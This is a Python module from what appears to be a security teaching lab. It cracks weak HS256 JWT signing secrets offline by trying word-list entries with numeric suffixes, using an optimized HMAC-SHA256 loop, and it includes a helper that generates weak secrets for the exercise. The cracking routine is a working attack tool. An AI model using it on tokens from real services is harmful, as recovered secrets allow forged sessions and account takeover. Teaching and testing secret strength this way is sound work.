"""Lab 04a: guessing a weak HS256 secret offline from one token, with a word list and numeric suffixes.

The word list ships in data/ (``data/make_wordlist.py`` writes it); nothing is downloaded.
"""

from __future__ import annotations

import contextlib
import random
import time
from dataclasses import dataclass
from hashlib import sha256
from pathlib import Path

from sessionlab.infra.progress import progress_bar
from sessionlab.web.tokens import (
    split_token,
)

WORDLIST = Path(__file__).resolve().parents[3] / "data" / "jwt_secrets_wordlist.txt"


# Mangling rules, as password crackers apply them: the word, then the word + 0..99.
SUFFIXES = ("",) + tuple(str(n) for n in range(100))


# Translate tables for K ⊕ ipad and K ⊕ opad, as the standard library's hmac.py builds them.
_IPAD = bytes(b ^ 0x36 for b in range(256))
_OPAD = bytes(b ^ 0x5C for b in range(256))


def _rests(stem_len: int, endings: list[bytes], message: bytes) -> list[tuple[bytes, bytes]]:
    """Per ending: what follows a stem of ``stem_len`` bytes in HMAC's inner input and in its outer key block.

    The key is padded to the 64-byte block with zero bytes, and 0 ⊕ ipad is 0x36 (⊕ opad, 0x5c).
    """
    return [
        (
            ending.translate(_IPAD) + b"\x36" * (64 - stem_len - len(ending)) + message,
            ending.translate(_OPAD) + b"\x5c" * (64 - stem_len - len(ending)),
        )
        for ending in endings
    ]


def hmac_sha256(key: bytes, message: bytes) -> bytes:
    """HMAC-SHA256 as RFC 2104 writes it: H(K ⊕ opad ‖ H(K ⊕ ipad ‖ message)).

    The same bytes as ``hmac.digest(key, message, "sha256")`` (findings 49 and 52 in
    benchmarks/README.md); ``crack_hs256`` splits this formula so that what a word's
    candidates share is built once, and uses it as written for keys longer than a block.
    """
    if len(key) > 64:  # SHA-256's block size; a longer key is hashed first
        key = sha256(key).digest()
    ((inner, outer),) = _rests(0, [key], message)  # the whole key, after an empty stem
    return sha256(outer + sha256(inner).digest()).digest()


def load_wordlist(path: str | Path | None = None) -> list[str]:
    text = Path(path or WORDLIST).read_text(encoding="utf-8")
    return [w for w in (line.strip() for line in text.splitlines()) if w and not w.startswith("#")]


def candidate_count(words, suffixes=SUFFIXES) -> int:
    return len(words) * len(suffixes)


def weak_secret(words, rng: random.Random | None = None) -> str:
    """A weak secret as people pick them: a list word plus a two-digit number (from the list's back half)."""
    rng = rng or random.SystemRandom()
    word = rng.choice(words[len(words) // 2 :])
    return f"{word}{rng.randint(10, 99)}"


@dataclass
class CrackResult:
    secret: str | None
    tried: int
    total: int
    seconds: float

    @property
    def found(self) -> bool:
        return self.secret is not None

    def __repr__(self) -> str:
        what = "비밀 키를 찾았습니다" if self.found else "비밀 키를 찾지 못했습니다"
        return f"<CrackResult {what}: 후보 {self.tried:,}/{self.total:,}개 시도>"


def crack_hs256(token: str, words, suffixes=SUFFIXES, progress: bool = True) -> CrackResult:
    """Offline dictionary attack on an HS256 token: HMAC every candidate, compare with the signature.

    Offline means no server sees the attempts: no rate limit, no lockout helps. What a word's
    candidates share is built once: both hashes start from the word's bytes once per word and
    are copied per ending (finding 52); candidates longer than SHA-256's block take
    ``hmac_sha256``.
    """
    header, _payload, signature = split_token(token)
    if header.get("alg") != "HS256":
        raise ValueError("HS256 토큰만 이 방법으로 깰 수 있습니다.")
    signing_input = token.rsplit(".", 1)[0].encode("ascii")
    total = candidate_count(words, suffixes)
    tried, start, found = 0, time.perf_counter(), None
    endings = [suffix.encode("utf-8") for suffix in suffixes]
    longest = max(map(len, endings), default=0)
    rests: dict[int, list[tuple[bytes, bytes]]] = {}  # per stem length
    with contextlib.ExitStack() as stack:
        bar = (
            stack.enter_context(progress_bar(total, "사전 공격", unit="후보", mininterval=0.25))
            if progress
            else None
        )
        for word in words:
            stem = word.encode("utf-8")
            if len(stem) + longest <= 64:
                if len(stem) not in rests:
                    rests[len(stem)] = _rests(len(stem), endings, signing_input)
                inner_start, outer_start = sha256(stem.translate(_IPAD)), sha256(stem.translate(_OPAD))
                for i, (inner_rest, outer_rest) in enumerate(rests[len(stem)]):
                    inner, outer = inner_start.copy(), outer_start.copy()
                    inner.update(inner_rest)
                    outer.update(outer_rest)
                    outer.update(inner.digest())
                    if outer.digest() == signature:
                        found, tried = word + suffixes[i], tried + i + 1
                        break
            else:
                for i, ending in enumerate(endings):
                    if hmac_sha256(stem + ending, signing_input) == signature:
                        found, tried = word + suffixes[i], tried + i + 1
                        break
            if bar is not None:
                bar.update(len(endings))
            if found is not None:
                break
            tried += len(endings)
    return CrackResult(found, tried, total, time.perf_counter() - start)
